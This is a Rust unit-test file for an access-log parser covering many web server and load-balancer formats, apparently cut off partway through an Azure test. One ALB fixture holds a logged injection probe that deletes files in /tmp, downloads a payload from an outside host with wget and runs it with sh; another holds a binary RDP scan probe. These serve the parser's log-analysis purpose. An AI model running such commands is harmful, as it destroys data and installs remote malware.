//! Unit tests per format pitfall (FORMATS.md §1–7, §14). Sample-file tests live in
//! `tests/access.rs`.

use std::net::IpAddr;

use super::*;

fn ip(s: &str) -> IpAddr {
    s.parse().unwrap()
}

fn net(s: &str) -> IpNet {
    s.parse().unwrap()
}

fn parse_with(format: AccessFormat, opts: ParseOptions, line: &[u8]) -> (LineOutcome, Request) {
    let mut p = AccessParser::new(format, opts);
    let mut r = Request::default();
    let o = p.parse_line(line, 7, &mut r);
    (o, r)
}

fn ok(format: AccessFormat, line: &str) -> Request {
    let (o, r) = parse_with(format, ParseOptions::default(), line.as_bytes());
    assert_eq!(o, LineOutcome::Request, "{line}");
    assert_eq!(r.line, 7);
    r
}

fn malformed(format: AccessFormat, line: &[u8]) -> String {
    match parse_with(format, ParseOptions::default(), line).0 {
        LineOutcome::Malformed(m) => m,
        other => panic!("{}: expected malformed, got {other:?}", String::from_utf8_lossy(line)),
    }
}

fn t(r: &Request) -> String {
    r.time.to_rfc3339_opts(chrono::SecondsFormat::AutoSi, true)
}

// ---------------------------------------------------------------- resolve_client

#[test]
fn resolve_client_rules() {
    let trusted = [net("10.0.0.0/8"), net("127.0.0.1/32")];
    // Untrusted peer: XFF ignored (it can be forged).
    assert_eq!(
        resolve_client(Some(ip("203.0.113.9")), "1.1.1.1", &trusted),
        Some(ip("203.0.113.9"))
    );
    // Trusted peer: right-most untrusted entry.
    assert_eq!(
        resolve_client(Some(ip("10.0.0.1")), "6.6.6.6, 198.51.100.7, 10.2.3.4", &trusted),
        Some(ip("198.51.100.7"))
    );
    // Every entry trusted: the left-most one.
    assert_eq!(
        resolve_client(Some(ip("10.0.0.1")), "10.0.0.2, 127.0.0.1", &trusted),
        Some(ip("10.0.0.2"))
    );
    // Junk where the client should be: an unknown external client, never the proxy.
    assert_eq!(
        resolve_forwarded(Some(ip("10.0.0.1")), "9.9.9.9, unknown, 10.0.0.5", &trusted),
        Resolved::UnknownExternal
    );
    assert_eq!(resolve_client(Some(ip("10.0.0.1")), "9.9.9.9, unknown, 10.0.0.5", &trusted), None);
    // Junk an attacker put left of the address its proxy appended is never reached.
    assert_eq!(
        resolve_forwarded(Some(ip("10.0.0.1")), "x, 203.0.113.66", &trusted),
        Resolved::Client(ip("203.0.113.66"))
    );
    assert_eq!(
        resolve_forwarded(Some(ip("10.0.0.1")), "x, 203.0.113.66, 10.0.0.3", &trusted),
        Resolved::Client(ip("203.0.113.66"))
    );
    // Trusted peer, no XFF: the peer.
    assert_eq!(resolve_client(Some(ip("10.0.0.1")), "-", &trusted), Some(ip("10.0.0.1")));
    // No peer (Envoy text): right-most entry, ports and brackets stripped.
    assert_eq!(resolve_client(None, "1.2.3.4:80, [2001:db8::1]:443", &[]), Some(ip("2001:db8::1")));
    assert_eq!(resolve_client(None, "", &[]), None);
}

// ---------------------------------------------------------------- CLF

#[test]
fn clf_combined_basic_and_utc() {
    let r = ok(
        AccessFormat::Combined,
        r#"54.36.149.41 - - [22/Jan/2019:03:56:14 +0330] "GET /filter/x?y=1 HTTP/1.1" 200 30577 "-" "AhrefsBot" "-""#,
    );
    assert_eq!(r.peer, Some(ip("54.36.149.41")));
    assert_eq!(r.client, r.peer);
    assert_eq!(t(&r), "2019-01-22T00:26:14Z");
    assert_eq!(r.utc_offset_secs, 12600);
    assert_eq!(
        (r.method.as_str(), r.target.as_str(), r.protocol.as_str()),
        ("GET", "/filter/x?y=1", "HTTP/1.1")
    );
    assert_eq!((r.status, r.bytes_sent), (200, 30577));
    assert_eq!(
        (r.referer.as_str(), r.user_agent.as_str(), r.forwarded_for.as_str()),
        ("", "AhrefsBot", "")
    );
}

#[test]
fn clf_common_and_apache_dash_bytes() {
    let r = ok(
        AccessFormat::Combined,
        r#"host.example.com - frank [10/Oct/2000:13:55:36 -0700] "GET /a.gif HTTP/1.0" 304 -"#,
    );
    assert_eq!(r.peer, None, "HostnameLookups: a name, not an address");
    assert_eq!((r.status, r.bytes_sent), (304, 0));
    assert_eq!(t(&r), "2000-10-10T20:55:36Z");
}

#[test]
fn clf_xff_chain_in_field_one() {
    let r = ok(
        AccessFormat::Combined,
        r#"10.0.0.2, 10.0.0.1, 85.181.35.98 - - [07/Dec/2016:11:05:07 +0100] "GET /ocelot HTTP/1.1" 200 571 "-" "Firefox""#,
    );
    assert_eq!(r.peer, Some(ip("85.181.35.98")));
    assert_eq!(r.forwarded_for, "10.0.0.2, 10.0.0.1, 85.181.35.98");
    // Quoted chain then the peer.
    let r = ok(
        AccessFormat::Combined,
        r#""10.5.102.222, 199.96.1.1, 204.246.1.1" 10.2.1.185 - - [22/Jan/2016:13:18:29 +0000] "GET /assets/xxxx?q=100 HTTP/1.1" 200 25507 "-" "Amazon CloudFront""#,
    );
    assert_eq!(r.peer, Some(ip("10.2.1.185")));
    assert_eq!(r.forwarded_for, "10.5.102.222, 199.96.1.1, 204.246.1.1");
    // IPv6 inside an unquoted chain, then the peer; with trusted proxies the client resolves.
    let line = br#"2a03:0000:10ff:f00f:0000:0000:0:8000, 10.225.192.17 10.2.2.121 - - [30/Dec/2016:06:47:09 +0000] "GET /test.html HTTP/1.1" 404 8571 "-" "Facebot""#;
    let opts = ParseOptions { trusted_proxies: vec![net("10.0.0.0/8")], ..ParseOptions::default() };
    let (o, r) = parse_with(AccessFormat::Combined, opts, line);
    assert_eq!(o, LineOutcome::Request);
    assert_eq!(r.peer, Some(ip("10.2.2.121")));
    assert_eq!(r.client, Some(ip("2a03:0:10ff:f00f::8000")));
}

#[test]
fn clf_vhost_and_ipv6_peer() {
    let r = ok(
        AccessFormat::Combined,
        r#"www.example.com 2001:db8::7 - - [01/Jan/2024:00:00:00 +0000] "GET / HTTP/2.0" 200 1 "-" "x""#,
    );
    assert_eq!(r.host, "www.example.com");
    assert_eq!(r.peer, Some(ip("2001:db8::7")));
}

#[test]
fn clf_request_lines_that_do_not_split() {
    for (req, raw) in
        [(r#""""#, ""), (r#""-""#, "-"), (r#""HELP""#, "HELP"), (r#""batman""#, "batman")]
    {
        let r = ok(
            AccessFormat::Combined,
            &format!(r#"12.34.56.78 - - [20/Jan/2015:19:53:28 +0100] {req} 400 47 "-" "-" "-""#),
        );
        assert!(r.method.is_empty());
        assert_eq!(r.raw_request, raw);
        assert_eq!(r.path(), raw);
    }
    // nginx \xHH binary probe, kept raw and decoded.
    let r = ok(
        AccessFormat::Combined,
        r#"12.34.56.78 - - [20/Jan/2015:19:53:28 +0100] "\x03\x00\x00/*\xE0\x00\x00\x00\x00\x00Cookie: mstshash=Administr" 400 47 "-" "-" "-""#,
    );
    assert!(r.raw_request.starts_with("\u{3}\0\0/*\u{fffd}"));
    assert!(r.raw_request.ends_with("Cookie: mstshash=Administr"));
    let r = ok(
        AccessFormat::Combined,
        r#"7.8.9.10 - root [20/Jan/2015:01:17:07 +0100] "CONNECT 123.123.123.123 HTTP/1.1" 400 162 "-" "-" "-""#,
    );
    assert_eq!((r.method.as_str(), r.target.as_str()), ("CONNECT", "123.123.123.123"));
}

#[test]
fn clf_apache_escapes() {
    let r = ok(
        AccessFormat::Combined,
        r#"1.2.3.4 - - [17/May/2015:10:05:03 +0000] "GET /a HTTP/1.1" 200 1 "http://\xe4\xb8\xad" "say \"hi\" \\ x""#,
    );
    assert_eq!(r.referer, "http://中");
    assert_eq!(r.user_agent, r#"say "hi" \ x"#);
}

#[test]
fn clf_extras_xff_and_request_time() {
    let r = ok(
        AccessFormat::Combined,
        r#"10.0.0.9 - - [01/Jan/2024:00:00:00 +0000] "GET / HTTP/1.1" 200 1 "-" "ua" "203.0.113.5, 10.0.0.8" 0.125"#,
    );
    assert_eq!(r.forwarded_for, "203.0.113.5, 10.0.0.8");
    assert_eq!(r.duration_us, Some(125_000));
    // Traefik CLF: count, router, service URL, then `<n>ms`.
    let r = ok(
        AccessFormat::Combined,
        r#"192.168.0.1 - - [01/Jan/2024:00:00:00 +0000] "GET / HTTP/1.1" 200 1 "-" "ua" 42 "router@docker" "http://10.0.0.2:80" 12ms"#,
    );
    assert_eq!(r.duration_us, Some(12_000));
}

#[test]
fn clf_comments_blank_and_malformed() {
    assert_eq!(
        parse_with(AccessFormat::Combined, ParseOptions::default(), b"# failJSON: {}").0,
        LineOutcome::Skipped
    );
    assert_eq!(
        parse_with(AccessFormat::Combined, ParseOptions::default(), b"   ").0,
        LineOutcome::Skipped
    );
    let m = malformed(
        AccessFormat::Combined,
        br#"192.168.202.254 [20/Jul/2009:22:59:29 +0000] "GET /x HTTP/1.0" 404 46210 "-" "gPXE""#,
    );
    assert!(m.contains("ident"), "{m}");
    // Truncated inside the request, after the referer, and a glued record.
    assert!(
        malformed(
            AccessFormat::Combined,
            br#"1.2.3.4 - - [26/Nov/2026:07:03:00 +0000] "POST /v1/chat/completions"#
        )
        .starts_with("request")
    );
    assert!(
        malformed(
            AccessFormat::Combined,
            br#"1.2.3.4 - - [24/Nov/2026:06:13:53 +0000] "GET /livez HTTP/1.1" 200 2 "-" "#
        )
        .starts_with("user_agent")
    );
    assert!(malformed(AccessFormat::Combined, br#"1.2.3.4 - - [24/Nov/2026:06:13:53 +0000] "GET / HTTP/1.1" 200 2 "-" "ua"10.0.0.1 - - [24/Nov/2026:06:13:53 +0000] "GET / HTTP/1.1" 200 2 "-" "ua""#).contains("glued"));
    assert!(malformed(AccessFormat::Combined, b"\0\x01\xff\xfe garbage").starts_with("time"));
    // The tail of the previous record glued in front of this one.
    assert!(malformed(AccessFormat::Combined, br#""OpenAI/Python 1.54.4"167.47.118.109 - - [24/Nov/2026:13:43:17 +0000] "POST / HTTP/1.1" 200 1 "-" "ua""#).starts_with("client"));
    assert!(malformed(AccessFormat::Combined, br#""OpenAI/Python 1.54.4" 167.47.118.109 - - [24/Nov/2026:13:43:17 +0000] "POST / HTTP/1.1" 200 1 "-" "ua""#).starts_with("client"));
    assert!(
        malformed(
            AccessFormat::Combined,
            br#"1.2.3.4 - - [31/Feb/2026:00:00:00 +0000] "GET / HTTP/1.1" 200 2"#
        )
        .starts_with("time")
    );
    assert!(
        malformed(
            AccessFormat::Combined,
            br#"1.2.3.4 - - [01/Feb/2026:00:00:00 +0000] "GET / HTTP/1.1" OK 2"#
        )
        .starts_with("status")
    );
}

#[test]
fn clf_dst_change_keeps_utc_order() {
    let a = ok(
        AccessFormat::Combined,
        r#"1.2.3.4 - - [25/Oct/2020:02:59:00 +0200] "GET / HTTP/1.1" 200 1"#,
    );
    let b = ok(
        AccessFormat::Combined,
        r#"1.2.3.4 - - [25/Oct/2020:02:01:00 +0100] "GET / HTTP/1.1" 200 1"#,
    );
    assert!(a.time < b.time, "local time went backwards, UTC did not");
    assert_eq!((a.utc_offset_secs, b.utc_offset_secs), (7200, 3600));
}

#[test]
fn transport_prefixes_and_envelopes() {
    let r = ok(
        AccessFormat::Combined,
        r#"web-1  | 1.2.3.4 - - [01/Jan/2024:00:00:00 +0000] "GET / HTTP/1.1" 200 1"#,
    );
    assert_eq!(r.peer, Some(ip("1.2.3.4")));
    let r = ok(
        AccessFormat::Combined,
        r#"{"log":"1.2.3.4 - - [01/Jan/2024:00:00:00 +0000] \"GET / HTTP/1.1\" 200 1\n","stream":"stdout"}"#,
    );
    assert_eq!(r.target, "/");
}

// ---------------------------------------------------------------- nginx JSON

#[test]
fn nginx_json_quoted_and_unquoted_numbers() {
    let r = ok(
        AccessFormat::NginxJson,
        r#"{"time_iso8601": "2026-11-03T10:00:27+01:00", "remote_addr": "10.8.4.3", "http_x_forwarded_for": "-", "request_method": "POST", "request_uri": "/v1/chat/completions", "server_protocol": "HTTP/1.1", "status": "200", "body_bytes_sent": "2396", "http_referer": "", "http_user_agent": "evalrunner/3.2", "request_time": "1.250", "host": "gw.example.net"}"#,
    );
    assert_eq!(t(&r), "2026-11-03T09:00:27Z");
    assert_eq!(r.utc_offset_secs, 3600);
    assert_eq!((r.status, r.bytes_sent, r.duration_us), (200, 2396, Some(1_250_000)));
    assert_eq!(
        (r.method.as_str(), r.target.as_str(), r.host.as_str()),
        ("POST", "/v1/chat/completions", "gw.example.net")
    );
    assert_eq!(r.forwarded_for, "");
    let r = ok(
        AccessFormat::NginxJson,
        r#"{"msec":1716723772.601,"remote_addr":"1.2.3.4","request":"GET /x HTTP/1.1","status":404,"body_bytes_sent":,"http_user_agent":"a\u00e9"}"#,
    );
    assert_eq!(t(&r), "2024-05-26T11:42:52.601Z");
    assert_eq!((r.method.as_str(), r.status, r.bytes_sent), ("GET", 404, 0));
    assert_eq!(r.user_agent, "aé");
}

#[test]
fn nginx_json_hex_escape_fallback_and_errors() {
    let r = ok(
        AccessFormat::NginxJson,
        r#"{"time_local":"01/Jan/2024:00:00:00 +0000","remote_addr":"1.2.3.4","request":"GET /\x22x\x22 HTTP/1.1","status":"200"}"#,
    );
    assert_eq!(r.target, "/\"x\"");
    assert!(
        malformed(AccessFormat::NginxJson, br#"{"remote_addr":"1.2.3.4"}"#).starts_with("time")
    );
    assert!(
        malformed(AccessFormat::NginxJson, br#"{"time_iso8601":"2024-01-01T00:00:00Z","status":"#)
            .starts_with("json")
    );
}

// ---------------------------------------------------------------- Caddy, Traefik, Envoy

#[test]
fn caddy_access_only_and_proxy() {
    let line = r#"caddy  | {"level":"info","ts":1716723772.6014807,"logger":"http.log.access.log17","msg":"handled request","request":{"remote_ip":"10.5.1.1","remote_port":"38574","client_ip":"10.10.10.117","proto":"HTTP/2.0","method":"GET","host":"m.example:400","uri":"/a?b","headers":{"User-Agent":["bot/1"],"X-Forwarded-For":["203.0.113.1"]}},"duration":0.017557019,"size":3768,"status":200}"#;
    let opts = ParseOptions { trusted_proxies: vec![net("10.0.0.0/8")], ..ParseOptions::default() };
    let (o, r) = parse_with(AccessFormat::Caddy, opts, line.as_bytes());
    assert_eq!(o, LineOutcome::Request);
    assert_eq!((r.peer, r.client), (Some(ip("10.5.1.1")), Some(ip("203.0.113.1"))));
    assert_eq!(
        (r.method.as_str(), r.target.as_str(), r.host.as_str(), r.user_agent.as_str()),
        ("GET", "/a?b", "m.example:400", "bot/1")
    );
    assert_eq!((r.status, r.bytes_sent, r.duration_us), (200, 3768, Some(17_557)));
    let startup = br#"caddy  | {"level":"info","ts":1761019822.31,"logger":"admin","msg":"admin endpoint started"}"#;
    assert_eq!(
        parse_with(AccessFormat::Caddy, ParseOptions::default(), startup).0,
        LineOutcome::Skipped
    );
}

#[test]
fn traefik_peer_and_client_host() {
    let r = ok(
        AccessFormat::Traefik,
        r#"{"ClientAddr": "10.10.8.105:48376","ClientHost": "175.16.199.10","DownstreamContentSize": 88,"DownstreamStatus": 200,"Duration": 59518533,"RequestHost": "api.example","RequestMethod": "GET","RequestPath": "/api/v1","RequestProtocol": "HTTP/1.0","StartUTC": "2024-02-09T11:53:32.609696286Z","time": "2024-02-09T11:53:32Z"}"#,
    );
    assert_eq!(r.peer, Some(ip("10.10.8.105")));
    assert_eq!(r.forwarded_for, "175.16.199.10");
    assert_eq!(r.duration_us, Some(59_518));
    assert_eq!(t(&r), "2024-02-09T11:53:32.609696286Z");
    let r = ok(
        AccessFormat::Traefik,
        r#"{"ClientAddr":"[::1]:56348","ClientHost":"::1","DownstreamStatus":404,"RequestMethod":"GET","RequestPath":"/","StartUTC":"2024-04-15T13:26:33.80902715Z"}"#,
    );
    assert_eq!((r.peer, r.forwarded_for.as_str()), (Some(ip("::1")), ""));
}

#[test]
fn envoy_text_default_istio_and_tcp() {
    let r = ok(
        AccessFormat::EnvoyText,
        r#"[2019-04-11T00:31:55.439Z] "GET /elastic HTTP/1.1" 404 NR 0 0 0 - "172.17.0.3" "curl/7.59.0" "58436667" "192.168.99.107:30901" "-""#,
    );
    assert_eq!((r.peer, r.client), (None, Some(ip("172.17.0.3"))));
    assert_eq!((r.status, r.host.as_str()), (404, "192.168.99.107:30901"));
    let r = ok(
        AccessFormat::EnvoyText,
        r#"[2019-04-08T16:50:12.533Z] "- - -" 0 - 87 254 4 - "-" "-" "-" "-" "172.27.0.2:80""#,
    );
    assert_eq!((r.raw_request.as_str(), r.status, r.bytes_sent, r.client), ("- - -", 0, 254, None));
    let r = ok(
        AccessFormat::EnvoyText,
        r#"[2024-01-01T00:00:00.000Z] "GET / HTTP/1.1" 200 - via_upstream - "-" 0 612 3 2 "-" "curl" "id" "svc" "10.0.0.5:80" outbound|80||svc 10.0.0.4:5555 10.0.0.4:80 198.51.100.9:41000 - default"#,
    );
    assert_eq!(r.peer, Some(ip("198.51.100.9")));
    let r = ok(
        AccessFormat::EnvoyText,
        r#"{"message":"ACCESS [2019-04-10T03:49:34.451Z] \"GET /httpbin/status/501 HTTP/1.1\" 501 - 0 0 180 179 \"172.17.0.3\" \"curl/7.59.0\" \"413bf460\" \"httpbin.org\" \"67.43.156.18:80\"","stream":"stdout"}"#,
    );
    assert_eq!((r.status, r.duration_us), (501, Some(180_000)));
}

#[test]
fn envoy_json_keys() {
    let r = ok(
        AccessFormat::EnvoyJson,
        r#"{"start_time":"2024-01-01T00:00:00.123Z","method":"POST","path":"/v1","protocol":"HTTP/2","response_code":200,"bytes_sent":10,"duration":7,"x_forwarded_for":null,"user_agent":"ua",":authority":"gw","downstream_remote_address":"203.0.113.4:5555"}"#,
    );
    assert_eq!(
        (r.peer, r.duration_us, r.host.as_str()),
        (Some(ip("203.0.113.4")), Some(7000), "gw")
    );
}

// ---------------------------------------------------------------- ALB, `CloudFront`, mapped

#[test]
fn alb_positional_and_skips() {
    let r = ok(
        AccessFormat::Alb,
        r#"http 2022-05-12T06:41:29.051646Z app/x/3011 67.43.156.20:41542 - -1 -1 -1 301 - 233 390 "GET http://127.0.0.1:80/shell?cd+/tmp;rm+-rf+*;wget+ a.tigoinari.tk/jaws;sh+/tmp/jaws HTTP/1.1" "Hello, world" - - - "Root=1" "-" "-" 0 2022-05-12T06:41:29.051000Z "redirect" "-" "-" "-" "-" "Acceptable" "SpaceInUri""#,
    );
    assert_eq!(r.target, "/shell?cd+/tmp;rm+-rf+*;wget+ a.tigoinari.tk/jaws;sh+/tmp/jaws");
    assert_eq!(
        (r.host.as_str(), r.user_agent.as_str(), r.duration_us),
        ("127.0.0.1:80", "Hello, world", None)
    );
    assert_eq!((r.status, r.bytes_sent, r.peer), (301, 390, Some(ip("67.43.156.20"))));
    let r = ok(
        AccessFormat::Alb,
        r#"http 2025-05-01T11:24:32.748149Z app/i/abcd 127.0.0.1:57273 - -1 -1 -1 200 - 0 272 "- http://internal.example.com:80-/ " "-" - - - "-" "-" "-" - 2025-05-01T11:24:32.720000Z "-" "-" "-" "-" "-" "-" "-" TID_0"#,
    );
    assert_eq!(
        (r.raw_request.as_str(), r.method.as_str()),
        ("- http://internal.example.com:80-/ ", "")
    );
    for skip in [&b"tls 2.0 2018-12-20T02:59:40 net/x/c6 g3 1.2.3.4:2817 10.0.0.1:80 5 2 98 246 -"[..], b"2024-10-04T17:05:15.514108Z 192.168.131.39 36280 443 TLSv1.2 x 4.036 \"CN=a\" v s Success"] {
        assert_eq!(parse_with(AccessFormat::Alb, ParseOptions::default(), skip).0, LineOutcome::Skipped);
    }
    // Classic ELB: no leading type.
    let r = ok(
        AccessFormat::Alb,
        r#"2015-05-13T23:39:43.945958Z my-lb 192.168.131.39:2817 10.0.0.1:80 0.000086 0.001048 0.001337 200 200 0 57 "GET https://www.example.com:443/ HTTP/1.1" "curl/7.38.0" DHE-RSA-AES128-SHA TLSv1.2"#,
    );
    assert_eq!(
        (r.status, r.bytes_sent, r.target.as_str(), r.duration_us),
        (200, 57, "/", Some(2471))
    );
    assert!(malformed(AccessFormat::Alb, b"http 2019-10-11T15:01:12.376735Z app/x/c 77.227.156.41:56398 10.0.0.192:80 0.001 0.000").starts_with("response_processing_time"));
}

#[test]
fn cloudfront_fields_decoding_and_padding() {
    let mut p = AccessParser::new(AccessFormat::CloudFront, ParseOptions::default());
    let mut r = Request::default();
    assert_eq!(p.parse_line(b"#Version: 1.0", 1, &mut r), LineOutcome::Skipped);
    assert_eq!(p.parse_line(b"#Fields: time date c-ip cs-uri-stem cs-uri-query sc-status cs(User-Agent) x-forwarded-for", 2, &mut r), LineOutcome::Skipped);
    let o = p.parse_line(b"21:02:31\t2019-12-04\t2a02:cf40::1\t/index.html\ta=%2Fb\t000\tMozilla/5.0%20(X11)\t81.2.69.142, 216.160.83.56", 3, &mut r);
    assert_eq!(o, LineOutcome::Request);
    assert_eq!(t(&r), "2019-12-04T21:02:31Z");
    assert_eq!((r.peer, r.status), (Some(ip("2a02:cf40::1")), 0));
    assert_eq!(
        (r.target.as_str(), r.user_agent.as_str()),
        ("/index.html?a=/b", "Mozilla/5.0 (X11)")
    );
    assert_eq!(r.forwarded_for, "81.2.69.142, 216.160.83.56");
    // Short line: missing trailing columns are padded.
    assert_eq!(p.parse_line(b"21:02:31\t2019-12-04\t1.2.3.4\t/", 4, &mut r), LineOutcome::Request);
    assert_eq!((r.status, r.user_agent.as_str()), (0, ""));
}

#[test]
fn mapped_json_paths() {
    let fields = FieldMap {
        time: Some("when".into()),
        peer: Some("net.peer".into()),
        request: Some("req".into()),
        status: Some("code".into()),
        ..FieldMap::default()
    };
    let opts = ParseOptions { fields: Some(fields), ..ParseOptions::default() };
    let (o, r) = parse_with(AccessFormat::JsonMapped, opts, br#"{"when":"2024-01-01T00:00:00Z","net":{"peer":"1.2.3.4:9"},"req":"GET /m HTTP/1.1","code":"201"}"#);
    assert_eq!(o, LineOutcome::Request);
    assert_eq!(
        (r.peer, r.client, r.status, r.target.as_str()),
        (Some(ip("1.2.3.4")), Some(ip("1.2.3.4")), 201, "/m")
    );
    assert!(malformed(AccessFormat::JsonMapped, br#"{"a":1}"#).contains("[access.fields]"));
}

// ---------------------------------------------------------------- detection

#[test]
fn detection_votes() {
    let d = |lines: &[&str]| detect(&lines.iter().map(|l| l.as_bytes()).collect::<Vec<_>>());
    assert_eq!(
        d(&[r#"1.2.3.4 - - [01/Jan/2024:00:00:00 +0000] "GET / HTTP/1.1" 200 1"#]),
        Some(AccessFormat::Combined)
    );
    assert_eq!(
        d(&[r#"{"time_iso8601":"2024-01-01T00:00:00Z","remote_addr":"1.2.3.4"}"#]),
        Some(AccessFormat::NginxJson)
    );
    assert_eq!(d(&[r#"caddy  | {"level":"info","ts":1.5,"msg":"x"}"#]), Some(AccessFormat::Caddy));
    assert_eq!(d(&[r#"{"ClientAddr":"1.2.3.4:5"}"#]), Some(AccessFormat::Traefik));
    assert_eq!(
        d(&[
            r#"ACCESS [2019-04-11T00:31:55.439Z] "GET / HTTP/1.1" 404 NR 0 0 0 - "-" "-" "-" "-" "-""#
        ]),
        Some(AccessFormat::EnvoyText)
    );
    assert_eq!(d(&["#Version: 1.0"]), Some(AccessFormat::CloudFront));
    assert_eq!(d(&["hello world", ""]), None);
    assert_eq!(d(&[]), None);
}

#[test]
fn detection_scores_json_key_sets_not_one_spelling() {
    let d = |line: &str| detect(&[line.as_bytes()]);
    // The widely copied layout (elastic/examples nginx_json_logs): no nginx variable name.
    let quoted = r#"{"time": "17/May/2015:08:05:32 +0000", "remote_ip": "93.180.71.3", "remote_user": "-", "request": "GET /downloads/product_1 HTTP/1.1", "response": 304, "bytes": 0, "referrer": "-", "agent": "Debian APT-HTTP/1.3"}"#;
    assert_eq!(d(quoted), Some(AccessFormat::NginxJson));
    let r = ok(AccessFormat::NginxJson, quoted);
    assert_eq!(
        (r.client, r.method.as_str(), r.target.as_str(), r.status, r.user_agent.as_str()),
        (Some(ip("93.180.71.3")), "GET", "/downloads/product_1", 304, "Debian APT-HTTP/1.3")
    );
    assert_eq!(t(&r), "2015-05-17T08:05:32Z");
    // Other spellings of the same fields.
    let other = r#"{"ts": 1700000000.5, "clientip": "203.0.113.7", "uri": "/x", "status_code": "404", "size": 12}"#;
    assert_eq!(d(other), Some(AccessFormat::NginxJson));
    let r = ok(AccessFormat::NginxJson, other);
    assert_eq!((r.client, r.status, r.bytes_sent), (Some(ip("203.0.113.7")), 404, 12));
    // Too few request fields, or no time: not an access log.
    assert_eq!(d(r#"{"time": "2024-01-01T00:00:00Z", "status": 200, "msg": "started"}"#), None);
    assert_eq!(
        d(r#"{"remote_ip": "1.2.3.4", "request": "GET /", "status": 200, "size": 1}"#),
        None
    );
}

#[test]
fn a_line_the_source_format_cannot_read_goes_to_the_format_that_can() {
    let mut p = AccessParser::new(AccessFormat::Combined, ParseOptions::default());
    let mut r = Request::default();
    let clf = br#"1.2.3.4 - - [01/Jan/2024:00:00:00 +0000] "GET / HTTP/1.1" 200 1"#;
    assert_eq!(p.parse_line(clf, 1, &mut r), LineOutcome::Request);
    assert!(p.fallback_counts().is_empty());
    let traefik = br#"{"ClientAddr":"10.0.0.2:5555","DownstreamStatus":404,"RequestMethod":"GET","RequestPath":"/b","StartUTC":"2025-11-03T12:00:01Z"}"#;
    assert_eq!(p.parse_line(traefik, 2, &mut r), LineOutcome::Request);
    assert_eq!((r.line, r.client, r.status), (2, Some(ip("10.0.0.2")), 404));
    // A Caddy non-access record is skipped, as the Caddy parser would; garbage stays
    // malformed with the source format's reason.
    let caddy = br#"{"level":"info","ts":1646861401.5,"logger":"tls","msg":"cleaning storage"}"#;
    assert_eq!(p.parse_line(caddy, 3, &mut r), LineOutcome::Skipped);
    assert!(
        matches!(p.parse_line(b"garbage here", 4, &mut r), LineOutcome::Malformed(m) if m.contains("time"))
    );
    assert_eq!(p.fallback_counts(), [(AccessFormat::Traefik, 1)]);
}

#[test]
fn clf_variants_in_the_slow_path() {
    let r = ok(
        AccessFormat::Combined,
        r#"::1 - [31/Aug/2015:15:59:14 +0100] "GET / HTTP/1.1" 200 8422"#,
    );
    assert_eq!((r.client, r.target.as_str()), (Some(ip("::1")), "/"));
    let r =
        ok(AccessFormat::Combined, r#"1.2.3.4 - - [31/Aug/2015:15:59:14 +0100] "GET /x" 200 1"#);
    assert_eq!((r.method.as_str(), r.target.as_str(), r.protocol.as_str()), ("GET", "/x", ""));
    assert!(r.raw_request.is_empty());
    // Not a method: kept raw.
    let r = ok(
        AccessFormat::Combined,
        r#"1.2.3.4 - - [31/Aug/2015:15:59:14 +0100] "\x16\x03 x" 400 1"#,
    );
    assert!(r.method.is_empty() && !r.raw_request.is_empty());
    let r = ok(
        AccessFormat::Combined,
        r#"1.2.3.4 - - [31/Aug/2015:15:59:14 +0100] [82775] [x] "GET /p HTTP/1.1" 200 1"#,
    );
    assert_eq!(r.target, "/p");
    let r = ok(
        AccessFormat::Combined,
        r#"1.2.3.4 -> 5.6.7.8 - - [31/Aug/2015:15:59:14 +0100] "GET / HTTP/1.1" 200 1"#,
    );
    assert_eq!((r.client, r.host.as_str()), (Some(ip("1.2.3.4")), "5.6.7.8"));
    // Still malformed: no client at all, or a `->` without an address after it.
    assert!(
        malformed(
            AccessFormat::Combined,
            br#"- - [31/Aug/2015:15:59:14 +0100] "GET / HTTP/1.1" 200 1"#
        )
        .contains("client")
    );
    assert!(
        malformed(
            AccessFormat::Combined,
            br#"1.2.3.4 -> "x y" - - [31/Aug/2015:15:59:14 +0100] "GET / HTTP/1.1" 200 1"#
        )
        .contains("client")
    );
}

#[test]
fn cloudflare_timestamps_in_every_unit() {
    for ts in [
        "\"2022-05-25T13:25:26Z\"",
        "1653485126",
        "\"1653485126\"",
        "1653485126000",
        "1653485126000000000",
        "\"1653485126000000000\"",
    ] {
        let line = format!(
            r#"{{"EdgeStartTimestamp":{ts},"ClientIP":"198.51.100.7","ClientRequestMethod":"GET","ClientRequestURI":"/x?y=1","EdgeResponseStatus":403,"EdgeResponseBytes":12}}"#
        );
        assert_eq!(detect(&[line.as_bytes()]), Some(AccessFormat::Cloudflare), "{ts}");
        let r = ok(AccessFormat::Cloudflare, &line);
        assert_eq!(t(&r), "2022-05-25T13:25:26Z", "{ts}");
        assert_eq!(
            (r.client, r.target.as_str(), r.status),
            (Some(ip("198.51.100.7")), "/x?y=1", 403)
        );
    }
}

#[test]
fn gcp_lb_latency_and_missing_time() {
    let line = r#"{"httpRequest":{"requestMethod":"GET","requestUrl":"https://api.example.com","status":200,"responseSize":"5","remoteIp":"198.51.100.8","latency":"0.012345s"},"timestamp":"2020-06-08T23:41:30Z"}"#;
    assert_eq!(detect(&[line.as_bytes()]), Some(AccessFormat::GcpLb));
    let r = ok(AccessFormat::GcpLb, line);
    assert_eq!(
        (r.host.as_str(), r.target.as_str(), r.duration_us),
        ("api.example.com", "/", Some(12_345))
    );
    let no_time = r#"{"httpRequest":{"requestMethod":"GET","requestUrl":"https://a/","remoteIp":"198.51.100.8"}}"#;
    assert!(malformed(AccessFormat::GcpLb, no_time.as_bytes()).contains("time"));
}

#[test]
fn azure_front_door_and_application_gateway() {
    // Front Door: `clientIp` came from an X-Forwarded-For the client sent; `socketIp` is the
    // connection. The peer is the connection; the claimed address is only kept.
    let fd = r#"{"time":"2021-12-15T03:10:11.6479719Z","category":"FrontdoorAccessLog","properties":{"clientIp":"203.0.113.50","socketIp":"198.51.100.9","httpMethod":"GET","requestUri":"https://app.example.com:443/admin?x=1","httpStatusCode":"403","responseBytes":"12","userAgent":"curl/8"}}"#;
    assert_eq!(detect(&[fd.as_bytes()]), Some(AccessFormat::Azure));
    let r = ok(AccessFormat::Azure, fd);
    assert_eq!((r.client, r.forwarded_for.as_str()), (Some(ip("198.51.100.9")), "203.0.113.50"));
    assert_eq!(
        (r.host.as_str(), r.target.as_str(), r.status),
        ("app.example.com:443", "/admin?x=1", 403)
    );
    // Application Gateway (the layout of Microsoft's documented example): `clientIP`, a path
    // with the query apart, numbers unquoted.
